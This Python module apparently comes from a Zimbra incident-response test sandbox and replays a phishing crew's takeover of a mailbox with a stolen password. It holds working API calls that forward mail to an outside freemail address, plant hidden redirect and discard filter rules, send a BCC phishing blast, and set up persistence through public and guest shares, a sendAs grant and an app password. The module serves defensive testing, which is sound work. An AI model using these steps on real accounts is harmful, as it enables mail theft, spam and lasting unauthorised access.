"""Replay what a phishing crew does with a stolen password, over the USER API with raw HTTP.

Deliberately independent of zcomp's client: it speaks Zimbra's JSON form, as the web client does.
"""

from __future__ import annotations

import json
import urllib.request
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from zcomp.sandbox.sandbox import Sandbox

FREEMAIL = "payments.desk.2291@freemail.test"
ATTACKER_IP = "203.0.113.66"
USER_AGENT = {"name": "ZimbraWebClient - GC122 (Win)", "version": "10.1.0_GA_4655"}
SPAM_SIGNATURE = (
    "Your mailbox storage is almost full. Verify your account within 24 hours to avoid "
    "suspension: http://mail-verify.freemail.test/login"
)
RULE_REDIRECT = "."
RULE_DISCARD = ".."
RULE_OUTGOING = "..."
ACCOMPLICE = "victor@sandbox.test"  # an ordinary seeded account the seed uses for nothing else
GUEST_PASSWORD = "Sh4red-2291"  # noqa: S105 - the made-up guest-share password
APP_PASSWORD_NAME = "Outlook sync"  # noqa: S105 - a name, not a password


@dataclass
class AttackReport:
    account: str
    token: str  # the attacker's auth token: tests check it is refused after lockdown
    server_url: str  # base URL of the server the attacker used
    freemail: str
    rule_names: list[str]
    outgoing_rule_names: list[str]
    signature_text: str
    message_id: str  # the SendMsgResponse message id
    recipients: list[str] = field(default_factory=list)
    attacker_ip: str = ATTACKER_IP
    public_folder: str = ""  # shared with everyone (FolderAction grant gt=pub perm=r)
    guest_folder: str = ""  # shared with the freemail address as a guest (gt=guest perm=r)
    guest_password: str = ""
    accomplice: str = ""  # granted sendAs on the account (GrantRights gt=usr)
    app_password_name: str = ""  # Network Edition only: an app-specific password's name
    app_password: str = ""  # ... and the password itself (shown once, at creation)


class AttackError(RuntimeError):
    """A step of the replay was refused; the message names the step and the fault code."""


class _Client:
    def __init__(self, base_url: str) -> None:
        self.url = base_url.rstrip("/") + "/service/soap/"
        self.token: str | None = None

    def call(self, name: str, ns: str, body: dict[str, Any]) -> dict[str, Any]:
        context: dict[str, Any] = {"_jsns": "urn:zimbra", "nosession": {}, "userAgent": USER_AGENT}
        if self.token:
            context["authToken"] = self.token
        doc = {"Header": {"context": context}, "Body": {name: {"_jsns": ns, **body}}}
        req = urllib.request.Request(  # noqa: S310 - a URL we were given, http on loopback
            self.url,
            data=json.dumps(doc).encode(),
            headers={"Content-Type": "application/json", "X-Forwarded-For": ATTACKER_IP},
        )
        try:
            with urllib.request.urlopen(req, timeout=30) as resp:  # noqa: S310
                payload = json.loads(resp.read())
        except urllib.error.HTTPError as err:
            with err:
                payload = json.loads(err.read())
        result: dict[str, Any] = payload["Body"]
        if "Fault" in result:
            code = result["Fault"]["Detail"]["Error"]["Code"]
            raise AttackError(f"{name}: {code}: {result['Fault']['Reason']['Text']}")
        key = name.replace("Request", "Response")
        out: dict[str, Any] = result[key]
        return out


def _strip_index(node: Any) -> Any:
    if isinstance(node, dict):
        return {k: _strip_index(v) for k, v in node.items() if k != "index"}
    if isinstance(node, list):
        return [_strip_index(v) for v in node]
    return node


def _rules(resp: dict[str, Any]) -> list[dict[str, Any]]:
    holder = resp.get("filterRules") or [{}]
    rules: list[dict[str, Any]] = holder[0].get("filterRule", [])
    return [_strip_index(r) for r in rules]


def _target_url(sb_or_urls: Sandbox | list[str], via_server: int) -> str:
    urls = list(sb_or_urls) if isinstance(sb_or_urls, list) else sb_or_urls.urls
    return urls[via_server]


def replay_attack(
    sb_or_urls: Sandbox | list[str],
    account: str = "alice@sandbox.test",
    password: str | None = None,
    *,
    via_server: int = -1,
    outgoing_redirect: bool = False,
    bcc_count: int = 80,
    freemail: str = FREEMAIL,
    accomplice: str = ACCOMPLICE,
) -> AttackReport:
    from zcomp.sandbox.directory import DOMAIN
    from zcomp.sandbox.seed import demo_password

    base = _target_url(sb_or_urls, via_server)
    c = _Client(base)
    # The server completes a bare name with zimbraDefaultDomainName (the seed's domain), so the
    # seed's password is the completed address's; the rest uses the name GetInfo gives.
    seeded = account if "@" in account else f"{account}@{DOMAIN}"
    auth = c.call(
        "AuthRequest",
        "urn:zimbraAccount",
        {
            "account": {"by": "name", "_content": account},
            "password": password or demo_password(seeded),
        },
    )
    c.token = auth["authToken"][0]["_content"]
    m = "urn:zimbraMail"
    acc = "urn:zimbraAccount"
    c.call(
        "ModifyPrefsRequest",
        acc,
        {
            "pref": [
                {"name": "zimbraPrefMailForwardingAddress", "_content": freemail},
                {"name": "zimbraPrefMailLocalDeliveryDisabled", "_content": "TRUE"},
            ]
        },
    )
    existing = _rules(c.call("GetFilterRulesRequest", m, {}))
    planted = [
        {
            "name": RULE_REDIRECT,
            "active": True,
            "filterTests": [{"condition": "anyof", "trueTest": [{}]}],
            "filterActions": [{"actionRedirect": [{"a": freemail}]}],
        },
        {
            "name": RULE_DISCARD,
            "active": True,
            "filterTests": [{"condition": "anyof", "trueTest": [{}]}],
            "filterActions": [{"actionDiscard": [{}]}],
        },
    ]
    c.call("ModifyFilterRulesRequest", m, {"filterRules": [{"filterRule": existing + planted}]})
    outgoing_names: list[str] = []
    if outgoing_redirect:
        out_existing = _rules(c.call("GetOutgoingFilterRulesRequest", m, {}))
        out_rule = {
            "name": RULE_OUTGOING,
            "active": True,
            "filterTests": [{"condition": "anyof", "trueTest": [{}]}],
            "filterActions": [{"actionRedirect": [{"a": freemail, "copy": True}]}],
        }
        c.call(
            "ModifyOutgoingFilterRulesRequest",
            m,
            {"filterRules": [{"filterRule": [*out_existing, out_rule]}]},
        )
        outgoing_names.append(RULE_OUTGOING)
    info = c.call("GetInfoRequest", acc, {"sections": "mbox"})
    account_id = info["id"][0]["_content"]
    account = info["name"][0]["_content"]
    c.call(
        "ModifyIdentityRequest",
        acc,
        {
            "identity": {
                "id": account_id,
                "a": [
                    {"name": "zimbraPrefFromAddress", "_content": freemail},
                    {"name": "zimbraPrefReplyToEnabled", "_content": "TRUE"},
                    {"name": "zimbraPrefReplyToAddress", "_content": freemail},
                ],
            }
        },
    )
    sigs = c.call("GetSignaturesRequest", acc, {}).get("signature", [])
    if sigs:
        c.call(
            "ModifySignatureRequest",
            acc,
            {
                "signature": {
                    "id": sigs[0]["id"],
                    "content": [{"type": "text/plain", "_content": SPAM_SIGNATURE}],
                }
            },
        )
    else:
        c.call(
            "CreateSignatureRequest",
            acc,
            {
                "signature": {
                    "name": "sig",
                    "content": [{"type": "text/plain", "_content": SPAM_SIGNATURE}],
                }
            },
        )
    recipients = [f"target{i:03d}@victims{i % 7}.test" for i in range(bcc_count)]
    sent = c.call(
        "SendMsgRequest",
        m,
        {
            "m": {
                "e": [{"t": "f", "a": freemail}, {"t": "t", "a": account}]
                + [{"t": "b", "a": r} for r in recipients],
                "su": {"_content": "Outstanding invoice - action required"},
                "mp": [
                    {
                        "ct": "text/plain",
                        "content": {"_content": "Please see the attached invoice.\n"},
                    }
                ],
            }
        },
    )
    # Persistence that survives a password change: shares, a right, an app password.
    c.call(
        "FolderActionRequest",
        m,
        {"action": {"op": "grant", "id": "2", "grant": {"gt": "pub", "perm": "r"}}},
    )
    c.call(
        "FolderActionRequest",
        m,
        {
            "action": {
                "op": "grant",
                "id": "5",
                "grant": {"gt": "guest", "d": freemail, "args": GUEST_PASSWORD, "perm": "r"},
            }
        },
    )
    c.call("GrantRightsRequest", acc, {"ace": {"right": "sendAs", "gt": "usr", "d": accomplice}})
    app_name = app_password = ""
    try:
        created = c.call("CreateAppSpecificPasswordRequest", acc, {"appName": APP_PASSWORD_NAME})
        app_name, app_password = APP_PASSWORD_NAME, str(created["pw"])
    except AttackError as err:
        if "service.UNKNOWN_DOCUMENT" not in str(err):  # FOSS has no app passwords
            raise
    return AttackReport(
        public_folder="/Inbox",
        guest_folder="/Sent",
        guest_password=GUEST_PASSWORD,
        accomplice=accomplice,
        app_password_name=app_name,
        app_password=app_password,
        account=account,
        token=c.token,
        server_url=base,
        freemail=freemail,
        rule_names=[RULE_REDIRECT, RULE_DISCARD],
        outgoing_rule_names=outgoing_names,
        signature_text=SPAM_SIGNATURE,
        message_id=str(sent["m"][0]["id"]),
        recipients=[account, *recipients],
    )
